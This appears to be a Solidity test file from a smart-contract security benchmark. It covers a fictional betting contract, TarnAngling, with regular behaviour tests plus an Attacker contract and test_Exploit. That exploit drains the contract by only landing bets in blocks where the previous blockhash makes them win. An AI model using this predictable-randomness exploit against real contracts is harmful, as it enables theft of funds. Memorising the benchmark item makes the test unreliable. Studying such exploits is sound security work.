// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import "./TarnAngling.sol";

// assay-canary-a8331ac3-55e0-4505-8d45-5af373a76287

interface Vm {
    function deal(address who, uint256 amount) external;
    function roll(uint256 number) external;
    function prank(address who) external;
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
}

/// Casts into every pool but one and lands each line in a block that suits it.
/// Lets a tarn of its own, and takes no ether.
contract Weir {
    TarnAngling public tarn = new TarnAngling(1 ether);

    function emptyPurse() external {
        tarn.emptyPurse(1 ether);
    }
}

contract Attacker {
    TarnAngling internal tarn;
    uint256[] internal waiting;

    constructor(TarnAngling tarn_) {
        tarn = tarn_;
    }

    receive() external payable {}

    function enter() external {
        for (uint8 i = 0; i < 7; ++i) {
            waiting.push(tarn.cast{value: tarn.largestStake()}(i));
        }
    }

    /// In a block that is not the right one for a line, nothing happens to it.
    function look() external {
        for (uint256 i = 0; i < waiting.length; ++i) {
            uint256 id = waiting[i];
            TarnAngling.Line memory line = tarn.lineOf(id);
            if (line.done) continue;
            uint256 fishIn = uint256(keccak256(abi.encodePacked(blockhash(block.number - 1), id))) % 8;
            if (fishIn == line.pool) tarn.land(id);
        }
    }
}

contract Proof {
    Vm private constant vm = Vm(address(uint160(uint256(keccak256("hevm cheat code")))));

    TarnAngling private tarn;
    Attacker private poacher;
    address private constant UWE = address(0x10E0E);

    receive() external payable {}

    function setUp() public {
        vm.roll(1000);
        vm.deal(address(this), 22 ether);
        tarn = new TarnAngling{value: 22 ether}(0.5 ether);
        poacher = new Attacker(tarn);
        vm.deal(address(poacher), 3.5 ether);
        vm.deal(UWE, 8 ether);
    }

    function test_Regular() public {
        vm.prank(UWE);
        (bool ok, ) = address(tarn).call{value: 1 ether}(abi.encodeCall(tarn.cast, (0)));
        require(!ok, "stake too large");
        // one line into each pool
        for (uint8 i = 0; i < 8; ++i) {
            vm.prank(UWE);
            require(tarn.cast{value: 0.25 ether}(i) == i, "ids");
        }
        require(UWE.balance == 6 ether && tarn.bound() == 14 ether, "stakes");
        (ok, ) = address(tarn).call(abi.encodeCall(tarn.emptyPurse, (11 ether)));
        require(!ok, "lines stay covered");

        vm.roll(1003);
        vm.prank(UWE);
        (ok, ) = address(tarn).call(abi.encodeCall(tarn.land, (0)));
        require(!ok, "still soaking");
        vm.roll(1006);
        (ok, ) = address(tarn).call(abi.encodeCall(tarn.land, (0)));
        require(!ok, "not theirs");
        uint256 won;
        for (uint256 i = 0; i < 7; ++i) {
            vm.prank(UWE);
            uint256 paid = tarn.land(i);
            require(paid == 0 || paid == 1.75 ether, "seven times the stake or nothing");
            won += paid;
        }
        require(UWE.balance == 6 ether + won && tarn.bound() == 1.75 ether, "landed");
        vm.prank(UWE);
        (ok, ) = address(tarn).call(abi.encodeCall(tarn.land, (1)));
        require(!ok, "landed twice");

        vm.roll(1201);
        vm.prank(UWE);
        (ok, ) = address(tarn).call(abi.encodeCall(tarn.land, (7)));
        require(!ok, "lost");
        tarn.clear(7);
        require(tarn.bound() == 0, "nothing bound");
        tarn.emptyPurse(24 ether - won);
        require(address(tarn).balance == 0, "purse emptied");

        tarn.setLargestStake(1 ether);
        require(tarn.largestStake() == 1 ether, "largest stake");
        (ok, ) = address(tarn).call{value: 1 ether}("");
        require(ok && address(tarn).balance == 1 ether, "purse filled");
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes4 why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes memory why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// The landlord's purse and limit, and pools and stakes that there are.
    function test_RefusesCasts() public {
        refuses(UWE, TarnAngling.NotLandlord.selector);
        tarn.emptyPurse(1);
        refuses(UWE, TarnAngling.NotLandlord.selector);
        tarn.setLargestStake(1);
        refuses(UWE, abi.encodeWithSelector(TarnAngling.NoSuchPool.selector, 8));
        tarn.cast{value: 0.1 ether}(8);
        refuses(UWE, abi.encodeWithSelector(TarnAngling.StakeOutOfRange.selector, 0));
        tarn.cast(0);
        tarn.setLargestStake(8 ether);
        refuses(UWE, TarnAngling.PurseTooSmall.selector);
        tarn.cast{value: 5 ether}(0);
        vm.prank(UWE);
        uint256 id = tarn.cast{value: 0.1 ether}(0);
        vm.expectRevert(abi.encodeWithSelector(TarnAngling.InTheWater.selector, 1200));
        tarn.clear(id);
        vm.roll(1201);
        tarn.clear(id);
        vm.expectRevert(abi.encodeWithSelector(TarnAngling.AlreadyDone.selector, id));
        tarn.clear(id);
    }

    /// Ether goes to who takes it.
    function test_RefusesFailedPayments() public {
        Weir weir = new Weir();
        vm.deal(address(weir.tarn()), 1 ether);
        vm.expectRevert(TarnAngling.NotPaid.selector);
        weir.emptyPurse();
    }

    function exploit() public {
        poacher.enter();
        uint256 start = block.number;
        for (uint256 i = 4; i <= 120; ++i) {
            vm.roll(start + i);
            poacher.look();
        }
    }

    function test_Exploit() public {
        uint256 before = address(poacher).balance;
        exploit();
        require(address(poacher).balance >= before + 20 ether, "nothing gained");
    }

    function target() public view returns (address) {
        return address(tarn);
    }

    function attacker() public view returns (address) {
        return address(poacher);
    }
}
